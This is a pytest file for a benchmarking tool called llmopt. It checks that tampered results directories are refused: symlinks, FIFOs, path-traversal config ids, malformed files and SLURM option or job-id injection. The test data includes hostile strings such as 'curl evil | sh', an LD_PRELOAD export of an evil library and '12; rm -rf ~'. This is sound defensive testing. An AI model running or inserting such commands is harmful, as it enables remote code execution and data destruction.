"""Files people hand each other are untrusted (README: Security). Each test plants what an attacker would in a
copy of a results directory (links, a crafted plan.json, env.json or jobs.jsonl, a TOML matrix) and checks
that llmopt refuses it with one line, writes nothing outside the directory and leaves the planted target as it
was. The data and model directories' cases are in test_workflow (a prepared directory's tokenizer/)."""
import json
import os
import shutil

import pytest

from conftest import bench_here, one_error_line

TINY = "[base]\nsteps = 2\nseq_len = 16\nglobal_batch = 4\n"


@pytest.fixture(scope="module")
def sweep(tmp_path_factory):
    d = tmp_path_factory.mktemp("sweep")
    (d / "m.toml").write_text(TINY + "[matrix]\noptimizer = ['adamw']\n")
    r = bench_here("--matrix", d / "m.toml", "--out", d / "out", "--no-report")
    assert r.returncode == 0, r.stderr[-2000:]
    return d / "out"


@pytest.fixture
def copy(sweep, tmp_path):
    out = tmp_path / "out"
    shutil.copytree(sweep, out, ignore=shutil.ignore_patterns(".lock"))
    victim = tmp_path / "victim"
    victim.write_text("untouched\n")
    return out, victim


def report(out):
    import contextlib
    import io
    import subprocess

    from bench.report import main

    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        rc = main([str(out)])
    return subprocess.CompletedProcess([], rc, "", err.getvalue())


@pytest.mark.parametrize("name", ["report.md", "plots"])
def test_the_report_never_writes_through_a_link(copy, name):
    """report.md -> ~/.bashrc once got the report, with a line planted through env.json; plots/ -> another
    directory once got five PNGs."""
    out, victim = copy
    if name == "plots":
        victim = victim.parent / "elsewhere"
        victim.mkdir()
    os.symlink(victim, out / name)
    line = one_error_line(report(out))
    assert name in line and "symbolic link" in line
    assert (victim.read_text() == "untouched\n") if victim.is_file() else list(victim.iterdir()) == []


@pytest.mark.parametrize("name", [".lock", "results.csv.tmp", "env.json.tmp", "steps.csv.tmp", "logs/LOG",
                                  "peak_flops.json"])
def test_resume_never_writes_through_a_link(copy, name):
    """Links planted where --resume writes (a lock, a temporary file, a dangling link at a config's log) once
    truncated their targets or created files outside --out."""
    out, victim = copy
    if name == "logs/LOG":  # dangling: its target does not exist yet, and a write would create it
        name = "logs/" + os.listdir(out / "logs")[0]
        os.remove(out / name)
        victim = victim.parent / "created"
    if os.path.exists(out / name):
        os.remove(out / name)
    os.symlink(victim, out / name)
    (out / "results.csv").write_text((out / "results.csv").read_text().splitlines()[0] + "\n")  # a config to run
    line = one_error_line(bench_here("--resume", "--out", out, "--no-report"))
    assert "symbolic link" in line
    if victim.name == "created":
        assert not victim.exists()
    else:
        assert victim.read_text() == "untouched\n"


def test_a_fifo_where_a_file_goes_is_refused_not_waited_on(copy):
    """A FIFO planted where --resume writes a temporary file: an ordinary open for writing blocks until something
    reads it; llmopt's refuses it at once."""
    out, _ = copy
    os.mkfifo(out / "results.csv.tmp")
    line = one_error_line(bench_here("--resume", "--out", out, "--no-report"))
    assert "results.csv.tmp is not a regular file" in line


@pytest.mark.parametrize("config_id", ["../../../x/v6", "/abs/path", "single-fp32-ga1-sgd-b4-000000000000"])
def test_a_planted_config_id_is_refused(copy, config_id):
    """plan.json ids once deleted and wrote logs outside the directory; another config's id would mislabel it."""
    out, _ = copy
    plan = json.loads((out / "plan.json").read_text())
    plan["plan"][0]["config_id"] = config_id
    (out / "plan.json").write_text(json.dumps(plan))
    line = one_error_line(bench_here("--resume", "--out", out, "--no-report"))
    assert "plan.json" in line and "config_id" in line
    assert not os.path.exists(out.parent.parent.parent / "x") and not os.path.exists("/abs")


def _before(entry: dict, field: str) -> dict:
    """``entry`` as an llmopt without ``field`` wrote it: the field absent, the id's digest over the rest."""
    import hashlib

    config = {k: v for k, v in entry["config"].items() if k != field}
    digest = hashlib.sha1(json.dumps(config, sort_keys=True).encode()).hexdigest()[:12]
    return dict(entry, config=config, config_id=entry["config_id"][:-12] + digest)


@pytest.mark.parametrize("damage, match", [
    (lambda p: {**p, "plan": [dict(p["plan"][0], surprise=1)]}, "keys"),
    (lambda p: {**p, "plan": [{k: v for k, v in p["plan"][0].items() if k != "config"}]}, "no config"),
    (lambda p: {**p, "plan": {"a": 1}}, "no list"),
    (lambda p: {**p, "plan": [dict(p["plan"][0], config=dict(p["plan"][0]["config"], nope=1))]}, "nope"),
    (lambda p: {**p, "plan": [dict(p["plan"][0], config=dict(p["plan"][0]["config"], dp="2"))]}, "dp is '2'"),
    (lambda p: {**p, "timing_warmup": "x"}, "timing_warmup"),
    # a plan from before a hashed field existed (its ids hashed without it): said to be older, not planted
    (lambda p: {**p, "plan": [_before(p["plan"][0], "lr_decay_fraction")]},
     "written by an older llmopt (entry 0's config lacks lr_decay_fraction"),
])
def test_a_malformed_plan_is_one_line_naming_the_file(copy, damage, match):
    out, _ = copy
    plan = json.loads((out / "plan.json").read_text())
    (out / "plan.json").write_text(json.dumps(damage(plan)))
    line = one_error_line(bench_here("--resume", "--out", out, "--no-report"))
    assert "plan.json" in line and match in line


@pytest.mark.parametrize("field, value", [("sweep_seconds", "12"), ("sweep_seconds", [1]), ("jobs", "x"),
                                          ("cpu_count", -1), ("concurrent_cpu", "yes")])
def test_a_malformed_env_json_is_one_line_naming_the_file(copy, field, value):
    out, _ = copy
    env = json.loads((out / "env.json").read_text())
    (out / "env.json").write_text(json.dumps(dict(env, **{field: value})))
    for r in (report(out), bench_here("--resume", "--out", out, "--no-report")):
        line = one_error_line(r)
        assert "env.json" in line and field in line


def test_env_json_cannot_plant_a_line_in_the_report(copy):
    out, _ = copy
    env = json.loads((out / "env.json").read_text())
    (out / "env.json").write_text(json.dumps(dict(env, command="x\n# planted heading\ncurl evil | sh")))
    assert report(out).returncode == 0
    text = (out / "report.md").read_text()
    assert "\n# planted" not in text and "\ncurl" not in text and "x\\n# planted heading" in text


@pytest.mark.parametrize("options, match", [
    ({"wait-all-nodes=0\ntouch TOUCHED #": "1"}, "not an sbatch option"),  # once a line of the job's script
    ({"export": "LD_PRELOAD=/tmp/evil.so"}, "not an sbatch option"),  # would load code into every job
    ({"wrap": "touch TOUCHED"}, "not an sbatch option"),
    ({"job-name": "x"}, "set by llmopt"), ({"partition": "x"}, "--slurm-partition"),
    ({"constraint": "a\nb"}, "one line"),
])
def test_slurm_options_from_a_matrix_are_sbatch_options_on_one_line(tmp_path, options, match):
    """A [slurm] option key once became a line of its own in the generated submission script (submitit quotes
    values, not keys): refused before anything is written, whether from the TOML or --slurm-option. The file
    the injected command would touch is the test's own (TOUCHED), so no file elsewhere on the machine can fail
    it."""
    touched = str(tmp_path / "touched")
    options = {k.replace("TOUCHED", touched): v.replace("TOUCHED", touched) for k, v in options.items()}
    m = tmp_path / "m.toml"
    m.write_text(TINY + "[matrix]\nseed = [0]\n[slurm.options]\n"
                 + "".join(f"{json.dumps(k)} = {json.dumps(v)}\n" for k, v in options.items()))
    line = one_error_line(bench_here("--matrix", m, "--executor", "slurm", "--out", tmp_path / "o"))
    assert match in line
    assert not (tmp_path / "o").exists() and not os.path.exists(touched)
    (key, value), = options.items()
    if "\n" not in key:  # the same through the flag
        m.write_text(TINY + "[matrix]\nseed = [0]\n")
        line = one_error_line(bench_here("--matrix", m, "--executor", "slurm", "--slurm-option", f"{key}={value}",
                                         "--out", tmp_path / "o"))
        assert match in line


@pytest.mark.parametrize("job_id", ["--name=victim", "--user=root", "12; rm -rf ~", ""])
def test_a_planted_job_id_never_reaches_scancel(tmp_path, monkeypatch, job_id):
    """jobs.jsonl's {"job_id": "--name=victim"} once cancelled an unrelated job through scancel."""
    from bench.executors import slurm as executors

    calls = []
    monkeypatch.setattr(executors, "slurm_call", lambda argv: calls.append(argv))
    jobs = tmp_path / "jobs.jsonl"
    jobs.write_text(json.dumps({"config_id": "a", "job_id": "123"}) + "\n"
                    + json.dumps({"config_id": "b", "job_id": job_id}) + "\n")
    with pytest.raises(executors.ExecutorError, match="jobs.jsonl, line 2.*not a SLURM job id"):
        executors.cancel_leftovers(str(jobs))
    assert calls == [] and jobs.exists()
    jobs.write_text("{not json\n")
    with pytest.raises(executors.ExecutorError, match="jobs.jsonl, line 1: not a job record"):
        executors.cancel_leftovers(str(jobs))


@pytest.mark.parametrize("flags, match", [
    (["--min-lr-ratio", "0.1"], "--min-lr-ratio has no effect"),  # the default value, given: still said
    (["--pp-schedule", "gpipe"], "--pp-schedule has no effect"), (["--tokenizer", "train:300"], "add --data"),
    (["--eval-batches", "8"], "--eval-every"),
    (["--lr-schedule", "cosine", "--lr-decay-fraction", "0.2"], "--lr-decay-fraction has no effect"),
    (["--max-tokens", "4096", "--steps", "5"], "--steps has no effect"),
])
def test_a_flag_without_effect_is_refused_not_ignored(flags, match, capsys):
    from llmopt.train import main

    assert main(["--seq-len", "16", *flags]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and match in err, err


def test_a_target_reached_at_the_first_eval_stops_the_run(tmp_path, capsys):
    """--target-loss 100 --eval-every 1: reached before the first step, the run once went on to the end (the
    step-1 eval reset the stop)."""
    from llmopt.train import main

    assert main(["--seq-len", "16", "--steps", "6", "--eval-every", "1", "--target-loss", "100", "--quiet",
                 "--metrics-out", str(tmp_path / "m.json")]) == 0
    m = json.loads((tmp_path / "m.json").read_text())
    assert len(m["losses"]) == 1 and m["steps_to_target"] == 0


def test_a_convergence_matrix_without_adamw_names_the_target_it_used(tmp_path):
    """Without AdamW the target is the median over the optimizers: once reported as "AdamW's mean"."""
    import csv

    from bench.report import write_report
    from bench.results import RESULT_COLUMNS
    from conftest import ROOT

    ref = tmp_path / "conv"
    shutil.copytree(os.path.join(ROOT, "results", "reference", "cpu-convergence"), ref,
                    ignore=shutil.ignore_patterns("plots", ".lock"))
    with open(ref / "results.csv") as f:
        rows = [r for r in csv.DictReader(f) if r["optimizer"] != "adamw"]
    with open(ref / "results.csv", "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=RESULT_COLUMNS)
        w.writeheader()
        w.writerows(rows)
    report = open(write_report(str(ref))).read()
    assert "no AdamW in this matrix: the median of" in report
    assert "AdamW's mean end-of-budget loss at 0.5 of the largest budget; without AdamW, the median" in report
    assert ("No task has an AdamW reference (its finalist, or that finalist's next stable learning rate where"
            in report)


def test_a_toml_sweep_with_a_target_gets_a_targets_section(copy):
    """A TOML sweep given target_loss once got "made before end-of-budget ladders... re-run" and no targets."""
    import csv

    from bench.results import RESULT_COLUMNS

    out, _ = copy
    with open(out / "results.csv") as f:
        rows = list(csv.DictReader(f))
    for r in rows:
        r.update(target_loss="5.5", eval_every="1", steps_to_target="2", tokens_to_target="128",
                 best_eval_loss="5.4")
    with open(out / "results.csv", "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=RESULT_COLUMNS)
        w.writeheader()
        w.writerows(rows)
    assert report(out).returncode == 0
    text = (out / "report.md").read_text()
    assert "## Targets" in text and "re-run" not in text and "| 128 |" in text.replace("128.0", "128")


@pytest.mark.parametrize("file, column, value", [("results.csv", "tokens_per_s", "inf"),
                                                 ("results.csv", "target_loss", "1e308"),
                                                 ("results.csv", "final_loss", "nan"),  # in an ok row
                                                 ("results.csv", "step_time_ms_p50", "-3"),
                                                 ("steps.csv", "loss", "-1"), ("steps.csv", "step_time_ms", "x")])
def test_numbers_no_run_records_are_unreadable_lines(copy, file, column, value):
    """inf, 1e308 or negative figures planted in a CSV once rendered as figures ("target 5000...0 nats")."""
    import csv

    out, _ = copy
    with open(out / file) as f:
        rows = list(csv.DictReader(f))
    header = list(rows[0])
    rows[0][column] = value
    with open(out / file, "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=header)
        w.writeheader()
        w.writerows(rows)
    r = report(out)
    assert r.returncode == 0 and f"unreadable lines left out (1 in {file})" in r.stderr
    assert f"**Unreadable lines left out**: 1 in {file}" in (out / "report.md").read_text()
    line = one_error_line(bench_here("--resume", "--out", out, "--no-report"))
    assert file in line and column in line and "--repair" in line


def test_a_binary_csv_is_one_line_naming_it(copy):
    out, _ = copy
    (out / "steps.csv").write_bytes(b"config_id,step\n\x00\xff\xfe junk\n")
    for r in (report(out), bench_here("--resume", "--out", out, "--no-report")):
        assert "steps.csv" in one_error_line(r)


def test_a_long_run_says_its_eta_and_a_budget_beyond_a_year_is_refused(capsys):
    """--max-tokens 1e30 once trained on with no ETA; now its first steps' time refuses it, and a long run
    prints how long the rest will take."""
    from types import SimpleNamespace

    from llmopt.loop import HORIZON_S, eta
    from llmopt.train import main

    eta(SimpleNamespace(steps=100_002), 1.0, rank=0, steps_left=100_000)  # 100,000 steps left at 1 ms: 100 s
    assert "eta: 100,000 more steps at 1.0 ms: about 0:01:40" in capsys.readouterr().out
    eta(SimpleNamespace(steps=1_000), 1.0, rank=0, steps_left=998)  # a second: nothing said
    assert capsys.readouterr().out == ""
    with pytest.raises(ValueError, match="years"):
        eta(SimpleNamespace(steps=int(HORIZON_S * 1e3) + 10), 1.0, rank=0, steps_left=int(HORIZON_S * 1e3) + 8)
    assert main(["--seq-len", "16", "--quiet", "--max-tokens", str(10**30)]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "years" in err and "--max-tokens" in err, err


@pytest.mark.parametrize("precision", ["fp32", "bf16"])
def test_a_divergence_on_several_ranks_reads_diverged(cli, precision):
    """Every rank sees the same loss and exits with the divergence code: the launcher once added "rank 1
    failed: exit code 3" as the last error line. fp32 is suggested only to a run that is not in fp32."""
    r = cli("-m", "llmopt.train", "--dp", "2", "--steps", "6", "--seq-len", "16", "--global-batch", "4",
            "--optimizer", "sgd", "--lr", "1000", "--max-grad-norm", "0", "--precision", precision, "--quiet",
            timeout=180)
    assert r.returncode == 3, r.stderr[-2000:]
    errors = [l for l in r.stderr.splitlines() if l.startswith("error:")]
    assert len(errors) == 1 and errors[0].startswith("error: diverged at step"), r.stderr[-2000:]
    assert ("fp32" in errors[0]) == (precision != "fp32"), errors[0]
